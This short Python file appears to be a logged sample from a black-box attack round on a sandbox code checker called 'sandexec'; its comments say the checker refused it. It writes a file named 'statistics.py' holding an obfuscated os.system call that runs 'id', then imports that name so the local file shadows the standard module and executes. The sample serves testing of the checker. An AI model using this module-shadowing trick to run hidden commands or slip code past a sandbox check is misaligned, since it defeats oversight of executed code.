# Source: black-box attack on sandexec's check, 2026-11-26 (second round).
# Family: a module imported by a name built at run time (plotting backend), or a file the script wrote and imports (runs only without python -I; under sandexec it writes the file but runs nothing).
# Refused since the check reads pandas options, backend= and code-file paths.
import time
import pandas as pd
pd.DataFrame({"c": ["import os;os.system(chr(105)+chr(100))"]}).to_csv("statistics.py", header=False, index=False)
time.sleep(1)


def load():
    import statistics
    return statistics


load()
